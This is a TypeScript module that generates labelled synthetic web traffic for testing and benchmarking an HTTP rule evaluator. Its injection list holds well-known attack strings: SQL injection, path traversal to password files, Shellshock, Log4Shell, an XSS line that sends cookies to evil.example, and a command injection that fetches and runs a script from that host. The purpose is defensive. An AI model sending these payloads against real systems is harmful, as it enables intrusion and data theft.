/**
 * Deterministic generator of realistic, labelled HTTP traffic for tests, the
 * `npm start` demo data and the benchmarks.
 *
 * Why synthetic traffic needs care: a rule evaluator is only as credible as the
 * data it is shown. The traffic therefore contains the *hard* cases real
 * rules stumble on, not just easy attacks:
 *  - benign look-alikes: searches for "union jack" or "select dresses", a
 *    Googlebot crawl, monitoring probes hammering /healthz, heavy API clients
 *    over a naive rate limit, real users mistyping their password on /login;
 *  - evasive attacks: scanners spoofing a Chrome user agent, credential
 *    stuffing spread over many residential IPs (a few attempts each, invisible
 *    to a per-IP rate limit), URL-encoded injection payloads.
 * Known-bad infrastructure uses the documentation ranges 198.51.100.0/24,
 * 203.0.113.0/24 and 2001:db8:bad::/48, so a blocklist rule has something real
 * to catch without naming real networks.
 *
 * Model: one global Poisson arrival process (`requestsPerSecond`); each arrival
 * picks a scenario by the mix weights, then an actor from that scenario's pool
 * of live sessions (skewed for API clients, so a few are heavy users); an
 * actor that finishes its session is replaced by a new one. Output is in
 * timestamp order with integer-millisecond timestamps (so ties occur, as in
 * real logs). Same seed and options ⇒ identical samples, on every platform
 * (only 32-bit integer PRNG arithmetic and Math.log/Math.floor are used).
 *
 * Speed: ~1 µs per sample (1,000,000 in about a second); strings that repeat
 * are shared, and each actor's header object is frozen and shared by its
 * requests, so do not mutate `headers` of generated samples.
 */
import type { TrafficSample } from './traffic-sample';

/** Relative weights of each traffic scenario (normalised; need not sum to 1). */
export interface TrafficMix {
  /** People browsing the shop (benign). */
  benignBrowsing: number;
  /** API integrations, monitoring probes and crawlers (benign). */
  apiClient: number;
  /** Vulnerability scanners probing /.env, /wp-admin, ... (attack 'scanner'). */
  scanner: number;
  /** POST /login bursts from many IPs (attack 'credential_stuffing'). */
  credentialStuffing: number;
  /** One client flooding the site (attack 'dos'). */
  dosBurst: number;
  /** SQLi / XSS / traversal / command-injection payloads in paths (attack by kind). */
  injection: number;
}

/** About 17% malicious, the rest benign: an attack-heavy but plausible edge mix. */
export const DEFAULT_TRAFFIC_MIX: Readonly<TrafficMix> = Object.freeze({
  benignBrowsing: 0.63,
  apiClient: 0.2,
  scanner: 0.05,
  credentialStuffing: 0.04,
  dosBurst: 0.05,
  injection: 0.03,
});

export interface TrafficGeneratorOptions {
  /** Number of samples, 0 .. 50,000,000. */
  count: number;
  /** PRNG seed (any 32-bit integer); default 1. */
  seed?: number;
  /** Timestamp of the first arrival's clock origin; default 2025-01-01T00:00:00Z. */
  startTimeMs?: number;
  /** Mean arrival rate; default 200 requests per second. */
  requestsPerSecond?: number;
  /** Scenario weights; missing entries take DEFAULT_TRAFFIC_MIX. */
  mix?: Partial<TrafficMix>;
}

export const GENERATOR_COUNT_MAX = 50_000_000;
const DEFAULT_START_TIME_MS = Date.UTC(2025, 0, 1);

/**
 * mulberry32: a tiny, fast, well-distributed 32-bit PRNG (passes gjrand/
 * PractRand to the sizes we use). Returns floats in [0, 1).
 */
export function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

// ------------------------------------------------------------------ vocabularies

const BROWSER_UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.67',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36',
];
const API_UAS = ['okhttp/4.12.0', 'python-requests/2.31.0', 'axios/1.6.8', 'Go-http-client/2.0', 'Java/17.0.10', 'PostmanRuntime/7.37.3'];
const MONITOR_UAS = ['kube-probe/1.29', 'Prometheus/2.51.0', 'curl/8.5.0', 'Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)'];
const CRAWLER_UA = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
const SCANNER_UAS = [
  'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)',
  'sqlmap/1.8.4#stable (https://sqlmap.org)',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 Nuclei',
  'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'Mozilla/5.0 zgrab/0.x',
  'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
  'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)',
];
const STUFFING_UAS = ['python-requests/2.31.0', 'Go-http-client/1.1', 'curl/7.88.1'];
const SCANNER_PROBES = [
  '/.env', '/.env.production', '/.git/config', '/.git/HEAD', '/wp-admin/', '/wp-login.php', '/xmlrpc.php',
  '/phpmyadmin/', '/pma/index.php', '/admin.php', '/administrator/', '/server-status', '/.aws/credentials',
  '/config.json', '/backup.zip', '/db.sql', '/cgi-bin/test.cgi', '/actuator/env', '/actuator/heapdump',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/.DS_Store', '/solr/admin/info/system',
  '/console/', '/manager/html', '/.well-known/security.txt', '/boaform/admin/formLogin', '/HNAP1/',
  '/owa/auth/logon.aspx', '/remote/login', '/api/v1/pods', '/debug/pprof/', '/telescope/requests',
];
const SCANNER_DIRS = ['admin', 'old', 'test', 'backup', 'dev', 'staging', 'tmp', 'private', 'api', 'v2', 'internal', 'files'];
const SCANNER_EXTS = ['', '/', '.php', '.bak', '.zip', '.old', '.asp', '.jsp'];
const INJECTIONS: readonly (readonly [attackType: string, payload: string])[] = [
  ['sqli', "/products?id=1' OR '1'='1"],
  ['sqli', '/products?id=1 UNION SELECT username,password FROM users--'],
  ['sqli', '/search?q=%27%20OR%201%3D1--'],
  ['sqli', "/api/v1/orders?sort=id;DROP TABLE orders;--"],
  ['sqli', '/products?id=1 AND SLEEP(5)'],
  ['sqli', '/login?user=admin%27--'],
  ['xss', '/search?q=<script>alert(document.cookie)</script>'],
  ['xss', '/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E'],
  ['xss', '/products?ref="><img src=x onerror=alert(1)>'],
  ['xss', '/comment?text=<svg/onload=fetch(`//evil.example/`+document.cookie)>'],
  ['path_traversal', '/static/../../../../etc/passwd'],
  ['path_traversal', '/download?file=..%2F..%2F..%2Fetc%2Fshadow'],
  ['path_traversal', '/images?path=....//....//windows/win.ini'],
  ['command_injection', '/ping?host=127.0.0.1;cat /etc/passwd'],
  ['command_injection', '/api/v1/export?name=$(curl evil.example/x.sh|sh)'],
  ['command_injection', '/cgi-bin/status?x=() { :; }; /bin/bash -c id'],
  ['ssrf', '/fetch?url=http://169.254.169.254/latest/meta-data/'],
  ['log4shell', '/search?q=${jndi:ldap://evil.example/a}'],
];
const SEARCH_TERMS = [
  'shoes', 'red dress', 'laptop bag', 'union jack flag', 'select dresses', 'drop earrings', 'script writing book',
  'coffee grinder', 'or else t-shirt', 'running socks', 'table lamp', 'sleep mask', 'alert bracelet', 'java beans',
  'etc', 'passwords notebook', 'admin desk chair', 'wine glasses', 'exec organizer', 'hand cream',
];
const UTM_SOURCES = ['newsletter', 'google', 'facebook', 'instagram', 'partner'];
const BENIGN_FIRST_OCTETS = [24, 31, 37, 46, 62, 73, 81, 88, 92, 98, 109, 151, 176, 188, 212, 217];
const BAD_V4_PREFIXES = ['198.51.100.', '203.0.113.'];

const BROWSER_HEADERS = Object.freeze({ accept: 'text/html,application/xhtml+xml', 'accept-language': 'en-GB,en;q=0.9' });
const BROWSER_HEADERS_FR = Object.freeze({ accept: 'text/html,application/xhtml+xml', 'accept-language': 'fr-FR,fr;q=0.8' });
const API_HEADERS = Object.freeze({ accept: 'application/json', 'content-type': 'application/json' });
const BARE_HEADERS = Object.freeze({ accept: '*/*' });
const NO_HEADERS = Object.freeze({});

type Scenario = 'benignBrowsing' | 'apiClient' | 'scanner' | 'credentialStuffing' | 'dosBurst' | 'injection';
const SCENARIOS: readonly Scenario[] = [
  'benignBrowsing',
  'apiClient',
  'scanner',
  'credentialStuffing',
  'dosBurst',
  'injection',
];
/** Live sessions per scenario: sets each actor's request rate (rate · weight / pool). */
const POOL_SIZE: Record<Scenario, number> = {
  benignBrowsing: 400,
  apiClient: 60,
  scanner: 3,
  credentialStuffing: 40,
  dosBurst: 1,
  injection: 6,
};

interface Actor {
  ip: string;
  clientKey: string;
  userAgent: string;
  headers: Readonly<Record<string, string>>;
  remaining: number;
  /** Scenario-specific flavour (which kind of API client, spoofed scanner, ...). */
  kind: number;
  step: number;
}

/**
 * Streams generated samples; `generateTraffic` collects them into an array.
 * Options are validated eagerly (before the first sample is pulled).
 */
export function streamTraffic(options: TrafficGeneratorOptions): Generator<TrafficSample, void, undefined> {
  const count = options.count;
  if (!Number.isInteger(count) || count < 0 || count > GENERATOR_COUNT_MAX) {
    throw new RangeError(`count must be an integer 0..${GENERATOR_COUNT_MAX}`);
  }
  const seed = options.seed ?? 1;
  if (!Number.isInteger(seed)) throw new RangeError('seed must be an integer');
  const start = options.startTimeMs ?? DEFAULT_START_TIME_MS;
  if (!Number.isFinite(start)) throw new RangeError('startTimeMs must be finite');
  const rps = options.requestsPerSecond ?? 200;
  if (!(rps > 0 && rps <= 1e7)) throw new RangeError('requestsPerSecond must be in (0, 1e7]');
  const mix = { ...DEFAULT_TRAFFIC_MIX, ...(options.mix ?? {}) };
  let total = 0;
  for (const s of SCENARIOS) {
    const w = mix[s];
    if (typeof w !== 'number' || !Number.isFinite(w) || w < 0) throw new RangeError(`mix.${s} must be a finite number ≥ 0`);
    total += w;
  }
  if (!(total > 0)) throw new RangeError('mix must have at least one positive weight');
  const cumulative = new Float64Array(SCENARIOS.length);
  let acc = 0;
  SCENARIOS.forEach((s, i) => {
    acc += mix[s] / total;
    cumulative[i] = acc;
  });
  cumulative[SCENARIOS.length - 1] = 1;
  return generate(count, seed, start, rps, cumulative);
}

function* generate(
  count: number,
  seed: number,
  start: number,
  rps: number,
  cumulative: Float64Array,
): Generator<TrafficSample, void, undefined> {
  const rand = mulberry32(seed);
  const int = (n: number): number => Math.floor(rand() * n);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(rand() * list.length)];
  const hex = (digits: number): string => {
    let s = '';
    for (let i = 0; i < digits; i++) s += '0123456789abcdef'[int(16)];
    return s;
  };
  const benignIp = (): string =>
    rand() < 0.12
      ? `2a01:e0a:${hex(3)}:${hex(4)}::${hex(3)}`
      : `${pick(BENIGN_FIRST_OCTETS)}.${int(256)}.${int(256)}.${1 + int(254)}`;
  const badIp = (): string => (rand() < 0.15 ? `2001:db8:bad:${hex(2)}::${1 + int(250)}` : `${pick(BAD_V4_PREFIXES)}${1 + int(254)}`);

  const newActor = (scenario: Scenario): Actor => {
    switch (scenario) {
      case 'benignBrowsing': {
        const ip = benignIp();
        const ua = pick(BROWSER_UAS);
        return { ip, clientKey: ip, userAgent: ua, headers: rand() < 0.8 ? BROWSER_HEADERS : BROWSER_HEADERS_FR, remaining: 5 + int(60), kind: 0, step: 0 };
      }
      case 'apiClient': {
        const r = rand();
        // kind 0: API integration with a key; 1: monitoring probe; 2: search crawler
        const kind = r < 0.75 ? 0 : r < 0.92 ? 1 : 2;
        const ip = kind === 1 ? `10.${int(4)}.${int(256)}.${1 + int(254)}` : kind === 2 ? `66.249.${64 + int(16)}.${1 + int(254)}` : benignIp();
        const ua = kind === 0 ? pick(API_UAS) : kind === 1 ? pick(MONITOR_UAS) : CRAWLER_UA;
        return {
          ip,
          clientKey: kind === 0 ? `ak_${hex(12)}` : ip,
          userAgent: ua,
          headers: kind === 0 ? API_HEADERS : kind === 1 ? NO_HEADERS : BARE_HEADERS,
          remaining: 200 + int(3000),
          kind,
          step: 0,
        };
      }
      case 'scanner': {
        const spoofed = rand() < 0.35;
        const ip = rand() < 0.6 ? badIp() : benignIp();
        return {
          ip,
          clientKey: ip,
          userAgent: spoofed ? pick(BROWSER_UAS) : pick(SCANNER_UAS),
          headers: spoofed ? BROWSER_HEADERS : BARE_HEADERS,
          remaining: 200 + int(2500),
          kind: spoofed ? 1 : 0,
          step: 0,
        };
      }
      case 'credentialStuffing': {
        const ip = benignIp(); // residential proxies: never on a blocklist
        return {
          ip,
          clientKey: ip,
          userAgent: rand() < 0.6 ? pick(BROWSER_UAS) : pick(STUFFING_UAS),
          headers: BARE_HEADERS,
          remaining: 3 + int(10),
          kind: 0,
          step: 0,
        };
      }
      case 'dosBurst': {
        const ip = rand() < 0.4 ? badIp() : benignIp();
        const withKey = rand() < 0.3;
        return {
          ip,
          clientKey: withKey ? `ak_${hex(12)}` : ip,
          userAgent: rand() < 0.5 ? 'Go-http-client/1.1' : pick(BROWSER_UAS),
          headers: BARE_HEADERS,
          remaining: 2000 + int(15000),
          kind: withKey ? 1 : 0,
          step: 0,
        };
      }
      case 'injection': {
        const ip = rand() < 0.3 ? badIp() : benignIp();
        const tool = rand() < 0.35;
        return {
          ip,
          clientKey: ip,
          userAgent: tool ? SCANNER_UAS[1] : pick(BROWSER_UAS),
          headers: tool ? BARE_HEADERS : BROWSER_HEADERS,
          remaining: 5 + int(80),
          kind: tool ? 1 : 0,
          step: 0,
        };
      }
    }
  };

  const pools: Record<Scenario, Actor[]> = {
    benignBrowsing: [],
    apiClient: [],
    scanner: [],
    credentialStuffing: [],
    dosBurst: [],
    injection: [],
  };
  for (const s of SCENARIOS) for (let i = 0; i < POOL_SIZE[s]; i++) pools[s].push(newActor(s));

  const meanGapMs = 1000 / rps;
  let clockMs = 0;
  for (let produced = 0; produced < count; produced++) {
    clockMs += -Math.log(1 - rand()) * meanGapMs;
    const u = rand();
    let si = 0;
    while (u >= cumulative[si]) si++;
    const scenario = SCENARIOS[si];
    const pool = pools[scenario];
    // API clients are skewed (a few heavy integrations); other pools uniform.
    const slot = scenario === 'apiClient' ? Math.floor(rand() * rand() * pool.length) : int(pool.length);
    const actor = pool[slot];
    actor.step++;
    if (--actor.remaining <= 0) pool[slot] = newActor(scenario);

    let method = 'GET';
    let path: string;
    let status = 200;
    let bodyBytes = 0;
    let malicious = false;
    let attackType = '';
    switch (scenario) {
      case 'benignBrowsing': {
        const r = rand();
        if (r < 0.18) path = `/products/${1 + int(5000)}`;
        else if (r < 0.3) path = `/static/js/app.${(actor.step % 7) + 3}f2a.js`;
        else if (r < 0.42) path = `/images/p/${1 + int(5000)}.jpg`;
        else if (r < 0.52) path = `/search?q=${pick(SEARCH_TERMS).replace(/ /g, '+')}`;
        else if (r < 0.6) path = '/';
        else if (r < 0.66) path = '/cart';
        else if (r < 0.7) path = '/checkout';
        else if (r < 0.74) path = `/products/${1 + int(5000)}/reviews?page=${1 + int(5)}`;
        else if (r < 0.78) path = '/api/cart';
        else if (r < 0.8) {
          method = 'POST';
          path = '/login';
          status = rand() < 0.8 ? 302 : 401; // real users mistype passwords too
          bodyBytes = 60 + int(40);
        } else if (r < 0.805) path = '/admin/dashboard'; // staff using the back office
        else if (r < 0.85) path = '/favicon.ico';
        else if (r < 0.9) path = '/static/css/main.css';
        else path = `/category/${pick(['women', 'men', 'kids', 'home', 'sale'])}?page=${1 + int(10)}`;
        // Campaign links and cache busters make a large share of logged paths unique,
        // as in real access logs; rules must cope with many distinct values.
        if (method === 'GET' && rand() < 0.25) {
          path += `${path.includes('?') ? '&' : '?'}${rand() < 0.5 ? `utm_source=${pick(UTM_SOURCES)}&utm_campaign=c${int(100_000)}` : `_=${start + Math.floor(clockMs)}`}`;
        }
        status = status === 200 && rand() < 0.05 ? (rand() < 0.5 ? 304 : 404) : status;
        break;
      }
      case 'apiClient': {
        if (actor.kind === 1) {
          path = rand() < 0.7 ? '/healthz' : '/metrics';
        } else if (actor.kind === 2) {
          path = rand() < 0.5 ? `/products/${1 + int(5000)}` : `/category/${pick(['women', 'men', 'home'])}?page=${1 + int(40)}`;
        } else {
          const r = rand();
          if (r < 0.35) path = `/api/v1/products/${1 + int(5000)}`;
          else if (r < 0.6) path = `/api/v1/orders?limit=50&cursor=${hex(10)}`;
          else if (r < 0.8) path = `/api/v1/inventory?sku=SKU-${10000 + int(90000)}`;
          else {
            method = rand() < 0.8 ? 'POST' : 'PUT';
            path = '/api/v1/orders';
            status = rand() < 0.95 ? 201 : 422;
            bodyBytes = 200 + int(1800);
          }
        }
        if (status === 200 && rand() < 0.01) status = 500;
        break;
      }
      case 'scanner': {
        malicious = true;
        attackType = 'scanner';
        if (rand() < 0.7) path = pick(SCANNER_PROBES);
        else path = `/${pick(SCANNER_DIRS)}${pick(SCANNER_EXTS)}`;
        if (rand() < 0.05) method = pick(['HEAD', 'OPTIONS', 'PROPFIND', 'POST']);
        status = rand() < 0.85 ? 404 : rand() < 0.5 ? 403 : 200;
        break;
      }
      case 'credentialStuffing': {
        malicious = true;
        attackType = 'credential_stuffing';
        method = 'POST';
        path = rand() < 0.85 ? '/login' : '/api/v1/auth/token';
        status = rand() < 0.97 ? 401 : 302;
        bodyBytes = 50 + int(60);
        break;
      }
      case 'dosBurst': {
        malicious = true;
        attackType = 'dos';
        const r = rand();
        path = r < 0.5 ? '/' : r < 0.8 ? `/search?q=${pick(SEARCH_TERMS).replace(/ /g, '+')}` : '/api/v1/products?limit=500';
        status = rand() < 0.7 ? 200 : rand() < 0.5 ? 429 : 503;
        break;
      }
      case 'injection': {
        // A manual attacker mixes normal page views with payloads, and only
        // the payloads are labelled malicious (per-request labels, as in
        // CSIC-2010-style datasets); a tool (sqlmap, kind 1) session is
        // malicious throughout.
        if (actor.kind === 1 || rand() < 0.55) {
          const [type, payload] = INJECTIONS[int(INJECTIONS.length)];
          malicious = true;
          attackType = type;
          path = payload;
          status = rand() < 0.6 ? 400 : rand() < 0.5 ? 500 : 200;
        } else {
          path = `/products/${1 + int(5000)}`;
        }
        break;
      }
    }
    const sample: TrafficSample = {
      timestampMs: start + Math.floor(clockMs),
      clientKey: actor.clientKey,
      clientIp: actor.ip,
      method,
      path,
      status,
      userAgent: actor.userAgent,
      headers: actor.headers as Record<string, string>,
      requestBytes: 180 + actor.userAgent.length + path.length + bodyBytes,
      malicious,
      attackType,
    };
    yield sample;
  }
}

/** Generates `options.count` samples in timestamp order (see the module comment for the model). */
export function generateTraffic(options: TrafficGeneratorOptions): TrafficSample[] {
  const stream = streamTraffic(options);
  const out: TrafficSample[] = new Array(options.count);
  let i = 0;
  for (const sample of stream) out[i++] = sample;
  return out;
}
